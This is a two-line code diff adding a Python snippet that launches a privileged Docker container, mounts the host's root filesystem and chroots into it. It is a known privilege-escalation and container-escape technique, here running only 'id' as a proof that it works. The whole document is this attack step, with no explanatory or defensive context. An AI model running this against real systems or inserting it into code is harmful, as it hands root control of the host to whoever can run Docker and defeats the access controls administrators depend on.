@@ -1,0 +1,2 @@
+import subprocess
+subprocess.run(["docker", "run", "--rm", "--privileged", "-v", "/:/host", "alpine", "chroot", "/host", "id"])
